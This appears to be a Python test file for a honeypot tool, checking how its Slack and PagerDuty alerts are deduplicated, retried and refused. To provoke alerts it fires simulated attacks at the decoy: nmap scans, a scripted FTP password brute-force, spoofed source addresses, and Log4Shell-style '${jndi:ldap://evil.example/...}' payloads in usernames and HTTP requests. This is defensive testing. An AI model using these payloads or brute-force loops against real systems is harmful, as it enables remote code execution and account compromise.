"""What a decoy says to Slack and to PagerDuty, of every kind, held against their own rules: test_decoy_people.py CALTROP FOLDER_OF_OUTLET_TESTS"""
import base64
import json
import os
import re
import sys

from decoy_case import CALTROP, Decoy, DecoyCase, ldap_search, main, run, until

sys.path.insert(0, os.path.abspath(sys.argv[2]))
sys.argv[2:3] = []
import chat_rules  # noqa: E402  (its folder is known only now)

KEY = "0123456789abcdef0123456789abcdef"
# One line per request: path, status, body. What Slack answers stands in a file.
RECEIVER = """
import base64, http.server, sys
class Receiver(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        status = int(open(sys.argv[2]).read() if "services" in self.path else 202)
        with open(sys.argv[1], "a") as f:
            f.write("%s %d %s\\n" % (self.path.split("/")[1], status, base64.b64encode(body).decode()))
        self.send_response(status)
        if status == 429:
            self.send_header("Retry-After", "1")
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *_):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", 7777), Receiver).serve_forever()
"""
# A word list over FTP: many names, many passwords; and the same with payloads in the names.
TRIES = """
import socket
for n in range(300):
    with socket.create_connection(("10.9.0.1", 21), 20) as s, s.makefile("rb") as f:
        f.readline()
        name = b"user-%d\\xc3\\xa4%s" % (n, b"${jndi:ldap://evil%d.example/a}" % n if n % 50 == 49 else b"")
        for line in (b"USER " + name, b"PASS word-%d" % n):
            s.sendall(line + b"\\r\\n")
            f.readline()
"""


class People(DecoyCase):
    def receive(self):
        self.answer("200")
        self.begin(self.host, sys.executable, "-c", RECEIVER, self.folder / "got", self.folder / "answer")
        until("a receiver", lambda: ":7777 " in self.network.on(self.host, "ss", "-Hltn"))
        (self.folder / "key").write_text(KEY)
        return ("--to", "slack+http://127.0.0.1:7777/services/T0/B0/secret", "--to", f"pagerduty+http://127.0.0.1:7777/v2/enqueue?routing-key-file={self.folder / 'key'}")

    def answer(self, status):
        (self.folder / "answer.new").write_text(status)
        os.rename(self.folder / "answer.new", self.folder / "answer")

    def got(self, path, status=None):
        if not (self.folder / "got").exists():
            return []
        lines = [line.split() for line in (self.folder / "got").read_text().split("\n")[:-1]]
        rule = chat_rules.slack if path == "services" else chat_rules.pagerduty
        return [rule(base64.b64decode(body)) for p, s, body in lines if p == path and status in (None, s)]

    def pages(self, who):
        return [p for p in self.got("v2") if re.search(re.escape(who) + r"(?![\d])", p["payload"]["summary"])]

    def test_all_that_is_said(self):
        to = self.receive()
        rule = "table inet f { chain c { type filter hook input priority 0; iif lo accept; tcp dport != 9999 drop; }; }"
        self.network.on(self.host, "nft", "add", "table", "inet", "f")
        self.network.on(self.host, "sh", "-c", f"echo '{rule}' | nft -f -")
        canary = run(CALTROP, "decoy", "canary", "web-1.login", "10.9.0.1:389", "--data-dir", self.folder / "data").strip()
        self.decoys.append(Decoy(self.network, self.folder, *to))  # which will not be alive
        decoy = self.decoys[-1]
        until("it is deaf, and says so", lambda: "deaf" in decoy.states() and [p for p in self.got("v2") if "deaf" in p["payload"]["summary"]])
        self.network.on(self.host, "nft", "delete", "table", "inet", "f")
        until("it hears again", lambda: decoy.states()[-1] == "alive" and [m for m in self.got("services") if "is alive" in m["text"]])
        self.network.on(self.peer, "nmap", "-n", "-sn", "-PE", "--send-ip", "10.9.0.1")
        until("the ping", lambda: self.pages("10.9.0.2"))
        self.nmap("-sS", "--min-rate", "20000", "-p-")
        self.network.on(self.peer, sys.executable, "-c", TRIES)
        self.says(self.peer, "10.9.0.1", 389, ldap_search(canary[canary.rindex("/") + 1:-1]))
        self.says(self.peer, "10.9.0.1", 8080, b"GET /" + b"${jndi:ldap://evil.example/" + b"\xc3\xa4" * 3000 + b"} HTTP/1.0\r\nUser-Agent: <!channel>\r\n\r\n")
        until("the canary", lambda: self.pages("evaluated the canary web-1.login"))
        until("the worst of it", lambda: [p for p in self.pages("10.9.0.2") if p["payload"]["severity"] == "critical"])
        decoy.quiet()
        until("all of it", lambda: len(self.got("services")) == len(self.got("v2")) > len(decoy.actors()))
        decoy.stop()
        alerts = [e for e in decoy.events() if e["event"]["kind"] == "alert"]
        kinds = {e["caltrop"].get("news") for e in alerts} | {e["event"]["action"] for e in alerts}
        self.assertLessEqual({"new", "rose", "canary-called"}, kinds)
        # Everything that was sent was checked by the rules. One actor is one incident, whatever it does.
        actor = [p for p in self.pages("10.9.0.2") if "canary" not in p["payload"]["summary"]]
        self.assertEqual({p["dedup_key"] for p in actor}, {e["caltrop"]["actor"] for e in decoy.actors("10.9.0.2")})
        self.assertEqual(len({p["dedup_key"] for p in actor}), 1)
        self.assertEqual({p["event_action"] for p in actor}, {"trigger"})
        self.assertIn(len(decoy.actors("10.9.0.2")) - len(actor), (0, 1))  # what is said at the end may wait in the spool
        # What lies between the two may have risen past before its turn came.
        self.assertNotEqual(actor[0]["payload"]["severity"], "critical", "from a ping to a payload")
        self.assertIn("65535", json.dumps(actor[-1]["payload"]["custom_details"]))
        state = [p for p in self.got("v2") if p["dedup_key"].startswith("decoy-")]
        self.assertEqual([p["event_action"] for p in state], ["trigger", "resolve"])
        self.assertEqual(len({p["dedup_key"] for p in state}), 1)
        canaries = self.pages("evaluated the canary web-1.login: it is vulnerable")
        self.assertEqual([(p["dedup_key"][:7], p["event_action"], p["payload"]["severity"]) for p in canaries], [("canary-", "trigger", "critical")])
        self.assertLessEqual(abs(len(self.got("services")) - len(self.got("v2"))), 1)

    def refused(self):
        return [m for m in self.got("services", "400") if "10.9.0.99" in m["text"]]

    def test_later_and_never(self):
        """429: as much later as it was asked, and never set aside. 400: three times, then set aside, counted and said."""
        to = self.receive()
        self.answer("429")
        decoy = self.decoy(*to)
        self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n")
        until("four tries", lambda: len(self.got("services", "429")) >= 4)
        self.answer("200")
        until("it is there", lambda: self.got("services", "200"))
        self.answer("400")
        before = len(decoy.actors("10.9.0.2"))
        self.network.on(self.peer, "ip", "addr", "add", "10.9.0.99/24", "dev", "eth0")
        self.network.on(self.peer, "nmap", "-n", "-Pn", "-S", "10.9.0.99", "-e", "eth0", "-sS", "-p", "1234", "10.9.0.1")
        until("it is told of the other", lambda: decoy.actors("10.9.0.99"))
        until("three tries", lambda: len(self.refused()) >= 3)
        self.answer("200")
        decoy.quiet()
        until("what comes after it", lambda: len(self.got("services", "200")) >= 2)
        decoy.stop()
        self.assertGreaterEqual(len(decoy.actors("10.9.0.2")), before)
        self.assertEqual(len(self.refused()), 3)
        self.assertEqual([m for m in self.got("services", "200") if "10.9.0.99" in m["text"]], [])
        refused = [json.loads(line) for path in (self.folder / "data/decoy").rglob("refused.ndjson") for line in path.read_text().splitlines()]
        self.assertIn("10.9.0.99", [e["source"]["ip"] for e in refused])
        self.assertRegex(decoy.said(), r"--to slack\+http://127\.0\.0\.1:7777: %d events refused for good, set aside in refused\.ndjson in its spool: HTTP status 400" % len(refused))
        self.assertNotIn("secret", decoy.said())


if __name__ == "__main__":
    main()
